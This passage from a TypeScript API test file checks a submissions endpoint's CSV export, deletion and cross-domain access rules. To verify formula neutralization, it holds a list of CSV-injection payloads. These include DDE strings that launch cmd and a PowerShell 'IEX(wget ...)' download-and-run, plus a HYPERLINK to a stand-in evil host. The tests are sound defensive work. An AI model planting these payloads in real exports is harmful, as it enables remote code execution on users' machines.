      [`search=${"s".repeat(256)}`, "search"],
    ]) {
      const res = await call(app, "GET", `/api/submissions?${query}`, { token: editor });
      expect(res.status, query).toBe(422);
      expect(res.body.errors, query).toHaveProperty(field);
    }
  });
});

describe("GET /api/submissions/:id and DELETE /api/submissions/:id", () => {
  it("shows one submission, refuses garbage ids and unknown ones", async () => {
    const row = await insertSubmission(LOCAL, { fields: { guests: "12" }, phone: "555" });
    const res = await call(app, "GET", `/api/submissions/${row.id}`, { token: siteAdmin });
    expect(res.status).toBe(200);
    expect(res.body).toEqual({
      data: {
        id: row.id,
        form: "contact",
        name: row.name,
        email: "row@example.com",
        phone: "555",
        message: "",
        fields: { guests: "12" },
        held: false,
        created_at: row.created_at.toISOString(),
      },
    });
    for (const id of ["abc", "0", "-1", "2147483648"]) {
      for (const method of ["GET", "DELETE"] as const) {
        const bad = await call(app, method, `/api/submissions/${id}`, { token: superAdmin });
        expect(bad.status, `${method} ${id}`).toBe(422);
        expect(bad.body.errors, `${method} ${id}`).toHaveProperty("id");
      }
    }
    const unknown = await call(app, "GET", "/api/submissions/2000000000", { token: editor });
    expect(unknown.status).toBe(404);
    expect(unknown.body).toEqual(NOT_FOUND);
  });

  it("deletes a submission for good", async () => {
    const row = await insertSubmission(LOCAL);
    const res = await call(app, "DELETE", `/api/submissions/${row.id}`, { token: siteAdmin });
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ data: { message: "The submission was deleted." } });
    expect(await rowsNamed(row.name)).toHaveLength(0);
    const again = await call(app, "DELETE", `/api/submissions/${row.id}`, { token: siteAdmin });
    expect(again.status).toBe(404);
    expect(again.body).toEqual(NOT_FOUND);
    const gone = await call(app, "GET", `/api/submissions/${row.id}`, { token: siteAdmin });
    expect(gone.status).toBe(404);
  });
});

describe("GET /api/submissions/export", () => {
  it("sends the filtered submissions as a CSV file, quoted and safe to open", async () => {
    const word = uniqueWord("csv");
    const formula = await insertSubmission(LOCAL, {
      form: "contact",
      name: '=HYPERLINK("http://evil.example","click")',
      email: `formula.${word}@example.com`,
      phone: "+1 555 0100",
      message: `@SUM(A1:A2) ${word}`,
      created_at: new Date("2021-06-01T08:00:00Z"),
    });
    const quoting = await insertSubmission(LOCAL, {
      form: "catering",
      name: 'Smith, "Jo"',
      email: `quote.${word}@example.com`,
      phone: "",
      message: `Line one\r\nline two, ${word}`,
      fields: { guests: "30", note: "-2 tables" },
      created_at: new Date("2021-06-02T08:00:00Z"),
    });
    const tabbed = await insertSubmission(LOCAL, {
      form: "join",
      name: "\tTab",
      email: `tab.${word}@example.com`,
      message: `-minus ${word}`,
      created_at: new Date("2021-06-03T08:00:00Z"),
    });
    const foreign = await insertSubmission(CATERING, { message: `Foreign ${word}` });

    const res = await exportCsv(`?search=${word}`);
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toBe("text/csv; charset=utf-8");
    const today = new Date().toISOString().slice(0, 10);
    expect(res.headers["content-disposition"]).toBe(
      `attachment; filename="submissions-localhost-${today}.csv"`,
    );
    const text = res.body;
    expect(text.startsWith("id,form,name,email,phone,message,fields,created_at,held\r\n")).toBe(
      true,
    );
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example"",""click"")"`);
    expect(text).toContain(`"Smith, ""Jo"""`);

    const rows = parseCsv(text);
    expect(rows[0]).toEqual([
      "id",
      "form",
      "name",
      "email",
      "phone",
      "message",
      "fields",
      "created_at",
      "held",
    ]);
    expect(rows.slice(1)).toEqual([
      [
        String(tabbed.id),
        "join",
        "'\tTab",
        `tab.${word}@example.com`,
        "",
        `'-minus ${word}`,
        "{}",
        "2021-06-03T08:00:00.000Z",
        "no",
      ],
      [
        String(quoting.id),
        "catering",
        'Smith, "Jo"',
        `quote.${word}@example.com`,
        "",
        `Line one\r\nline two, ${word}`,
        expect.stringMatching(/^\{.*\}$/),
        "2021-06-02T08:00:00.000Z",
        "no",
      ],
      [
        String(formula.id),
        "contact",
        `'=HYPERLINK("http://evil.example","click")`,
        `formula.${word}@example.com`,
        "'+1 555 0100",
        `'@SUM(A1:A2) ${word}`,
        "{}",
        "2021-06-01T08:00:00.000Z",
        "no",
      ],
    ]);
    expect(JSON.parse(rows[2][6])).toEqual({ guests: "30", note: "-2 tables" });
    expect(text).not.toContain(`Foreign ${word}`);

    // The list's filters apply.
    const onlyJoin = parseCsv((await exportCsv(`?search=${word}&form=join`)).body);
    expect(onlyJoin.slice(1).map((r) => r[0])).toEqual([String(tabbed.id)]);
    const dated = parseCsv(
      (await exportCsv(`?search=${word}&endDate=${encodeURIComponent("2021-06-02 08:00:00")}`))
        .body,
    );
    expect(dated.slice(1).map((r) => r[0])).toEqual([String(quoting.id), String(formula.id)]);
    const nothing = await exportCsv(`?search=${uniqueWord()}`);
    expect(nothing.body).toBe("id,form,name,email,phone,message,fields,created_at,held\r\n");

    // Another domain's export is its own, named after its host.
    const theirs = await exportCsv(`?search=${word}`, siteAdminB, "catering.localhost");
    expect(theirs.headers["content-disposition"]).toBe(
      `attachment; filename="submissions-catering.localhost-${today}.csv"`,
    );
    expect(
      parseCsv(theirs.body)
        .slice(1)
        .map((r) => r[0]),
    ).toEqual([String(foreign.id)]);

    const bad = await exportCsv("?form=party");
    expect(bad.statusCode).toBe(422);
    expect(bad.json().errors).toHaveProperty("form");
  });

  it("neutralizes formulas and quotes cells (unit)", () => {
    expect(csvCell("plain")).toBe("plain");
    expect(csvCell(12)).toBe("12");
    expect(csvCell("=1+1")).toBe(`"'=1+1"`);
    expect(csvCell("+1")).toBe(`"'+1"`);
    expect(csvCell("-1")).toBe(`"'-1"`);
    expect(csvCell("@x")).toBe(`"'@x"`);
    expect(csvCell("\tx")).toBe(`"'\tx"`);
    expect(csvCell("\rx")).toBe(`"'\rx"`);
    expect(csvCell(" =1")).toBe(`"' =1"`);
    expect(csvCell("\u00A0\n=1")).toBe(`"'\u00A0\n=1"`);
    expect(csvCell("\u200B=1")).toBe(`"'=1"`);
    expect(csvCell("\uFF1D1+1")).toBe(`"'\uFF1D1+1"`);
    expect(csvCell("x;=1+1;y")).toBe(`"x;=1+1;y"`);
    expect(csvCell("a;b")).toBe(`"a;b"`);
    expect(csvCell('a"b')).toBe('"a""b"');
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell("a\nb")).toBe('"a\nb"');
    expect(csvCell("Eve\u202Egnp.exe")).toBe("Evegnp.exe");
    expect(csvCell("")).toBe("");
    expect(exportFileName("catering.localhost", new Date("2024-02-03T23:00:00Z"))).toBe(
      "submissions-catering.localhost-2024-02-03.csv",
    );
  });

  it("is safe with OWASP CSV-injection payloads in comma and semicolon locales", async () => {
    const word = uniqueWord("owasp");
    const payloads = [
      "=1+1",
      "+1",
      "-1+1",
      "@SUM(1)",
      '=HYPERLINK("http://x","y")',
      "=HYPERLINK(CHAR(104)&CHAR(116)&CHAR(116)&CHAR(112)&CHAR(58)&CHAR(47)&CHAR(47)&CHAR(120),CHAR(121))",
      "=cmd|' /C calc'!A0",
      "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
      "@SUM(1+9)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "x;=1+1;y",
      "x;+1;y",
      "x; @SUM(1);y",
      "x,=1+1,y",
      "x;HYPERLINK(CHAR(104)&CHAR(116),CHAR(121));y",
      "a;\t=1",
      "\t=1",
      " =1",
      "\r=1",
      "\n=1",
      "\u00A0=1",
      "\u200B=1+1",
      "\u202E=1+1",
      "\uFF1D1+1",
      '"=1+1"',
      '";=1+1;"',
      "x\r\n=1+1",
      "x\n;=1+1",
    ];
    const rows = [];
    for (const [i, payload] of payloads.entries()) {
      rows.push(
        await insertSubmission(LOCAL, {
          form: "contact",
          name: payload,
          email: `p${i}.${word}@example.com`,
          phone: payload,
          message: `${payload} ${word}`,
          fields: { note: payload, [`k${i}`]: payload },
        }),
      );
    }
    const res = await exportCsv(`?search=${word}`);
    expect(res.statusCode).toBe(200);
    const formula =
      /^[\s\u200B-\u200F\u202A-\u202E\u2066-\u2069\uFEFF]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;
    for (const separator of [",", ";"] as const) {
      const parsed = parseCsv(res.body, separator);
      for (const row of parsed) {
        for (const cell of row) {
          expect(formula.test(cell), `${separator} ${JSON.stringify(cell)}`).toBe(false);
          expect(/^[\t\r]/.test(cell), `${separator} ${JSON.stringify(cell)}`).toBe(false);
        }
      }
      // A `;` spreadsheet never splits a line of this comma file (every `;` is inside quotes).
      if (separator === ";") {
        expect(parsed.every((row) => row.length === 1)).toBe(true);
      }
    }
    // With commas the payloads come back whole, behind an apostrophe when formula-like.
    const parsed = parseCsv(res.body);
    expect(parsed).toHaveLength(payloads.length + 1);
    for (const row of parsed.slice(1)) {
      expect(row).toHaveLength(9);
      const payload = payloads[rows.findIndex((r) => String(r.id) === row[0])];
      const visible = payload.replace(/[\u200B\u202E]/gu, "");
      const expected = /^(?:[\t\r]|\s*[=+\-@\uFF1D])/u.test(visible) ? `'${visible}` : visible;
      expect(row[2], JSON.stringify(payload)).toBe(expected);
      expect(row[4], JSON.stringify(payload)).toBe(expected);
      expect(JSON.parse(row[6]).note, JSON.stringify(payload)).toBe(visible);
    }
  });

  it("marks held submissions and leaves invisible characters out", async () => {
    const word = uniqueWord("heldcsv");
    const held = await insertSubmission(LOCAL, {
      name: "Eve\u202Egnp.exe",
      message: `Held \u2066${word}`,
      held: true,
    });
    const rows = parseCsv((await exportCsv(`?search=${word}`)).body);
    expect(rows.slice(1)).toEqual([
      [
        String(held.id),
        "contact",
        "Evegnp.exe",
        "row@example.com",
        "",
        `Held ${word}`,
        "{}",
        held.created_at.toISOString(),
        "yes",
      ],
    ]);
    const notHeld = parseCsv((await exportCsv(`?search=${word}&held=false`)).body);
    expect(notHeld).toHaveLength(1);
  });
});

describe("role matrix", () => {
  const ownRow = () => insertSubmission(LOCAL);
  let foreignId = 0;

  it("refuses anonymous callers with 401 on every read and the delete", async () => {
    const row = await ownRow();
    for (const [method, url] of [
      ["GET", "/api/submissions"],
      ["GET", `/api/submissions/${row.id}`],
      ["GET", "/api/submissions/export"],
      ["DELETE", `/api/submissions/${row.id}`],
    ] as const) {
      const res = await call(app, method, url);
      expect(res.status, `${method} ${url}`).toBe(401);
      expect(res.body, `${method} ${url}`).toEqual(UNAUTHORIZED);
    }
    expect(await rowsNamed(row.name)).toHaveLength(1);
  });

  it("lets roles 1, 2 and 3 read the list, a detail and the export of their domain", async () => {
    const row = await ownRow();
    for (const { role, token } of readers) {
      const list = await call(
        app,
        "GET",
        `/api/submissions?search=${encodeURIComponent(row.name)}`,
        {
          token,
        },
      );
      expect(list.status, role).toBe(200);
      expect(
        list.body.data.map((r: { id: number }) => r.id),
        role,
      ).toEqual([row.id]);
      const detail = await call(app, "GET", `/api/submissions/${row.id}`, { token });
      expect(detail.status, role).toBe(200);
      expect(detail.body.data.id, role).toBe(row.id);
      const csv = await exportCsv(`?search=${encodeURIComponent(row.name)}`, token);
      expect(csv.statusCode, role).toBe(200);
      expect(
        parseCsv(csv.body)
          .slice(1)
          .map((r) => r[0]),
        role,
      ).toEqual([String(row.id)]);
    }
  });

  it("lets roles 1 and 2 delete, and refuses the editor with 403", async () => {
    const row = await ownRow();
    const refused = await call(app, "DELETE", `/api/submissions/${row.id}`, { token: editor });
    expect(refused.status).toBe(403);
    expect(refused.body).toEqual(FORBIDDEN);
    expect(await rowsNamed(row.name)).toHaveLength(1);
    for (const { role, token } of readers.slice(0, 2)) {
      const mine = await ownRow();
      const res = await call(app, "DELETE", `/api/submissions/${mine.id}`, { token });
      expect(res.status, role).toBe(200);
      expect(await rowsNamed(mine.name), role).toHaveLength(0);
    }
  });

  it("answers 404 to every role of domain A asking for domain B's submission", async () => {
    const foreign = await insertSubmission(CATERING, { name: `Theirs ${uniqueWord()}` });
    foreignId = foreign.id;
    for (const { role, token } of readers) {
      // On its own API host and on the other domain's: the token's domain decides.
      for (const host of ["localhost", "catering.localhost"]) {
        const label = `${role} on ${host}`;
        const detail = await call(app, "GET", `/api/submissions/${foreignId}`, { token, host });
        expect(detail.status, label).toBe(404);
        expect(detail.body, label).toEqual(NOT_FOUND);
        const del = await call(app, "DELETE", `/api/submissions/${foreignId}`, { token, host });
        if (token === editor) {
          expect(del.status, label).toBe(403);
        } else {
          expect(del.status, label).toBe(404);
          expect(del.body, label).toEqual(NOT_FOUND);
        }
        const list = await call(app, "GET", `/api/submissions?search=${foreign.name}`, {
          token,
          host,
        });
        expect(list.body.data, label).toEqual([]);
        const csv = await exportCsv(`?search=${encodeURIComponent(foreign.name)}`, token, host);
        expect(parseCsv(csv.body), label).toHaveLength(1);
      }
    }
    expect(await rowsNamed(foreign.name)).toHaveLength(1);

    // Its own domain's site admin reads and deletes it.
    const detail = await call(app, "GET", `/api/submissions/${foreignId}`, {
      token: siteAdminB,
      host: "catering.localhost",
    });
    expect(detail.status).toBe(200);
    const del = await call(app, "DELETE", `/api/submissions/${foreignId}`, {
      token: siteAdminB,
      host: "catering.localhost",
    });
    expect(del.status).toBe(200);
    expect(await rowsNamed(foreign.name)).toHaveLength(0);
  });

  it("refuses domain B's site admin on domain A's submissions with 404", async () => {
    const row = await ownRow();
    for (const host of ["catering.localhost", "localhost"]) {
      const detail = await call(app, "GET", `/api/submissions/${row.id}`, {
        token: siteAdminB,
        host,
      });
      expect(detail.status, host).toBe(404);
      const del = await call(app, "DELETE", `/api/submissions/${row.id}`, {
        token: siteAdminB,
        host,
      });
      expect(del.status, host).toBe(404);
    }
    expect(await rowsNamed(row.name)).toHaveLength(1);
  });
});
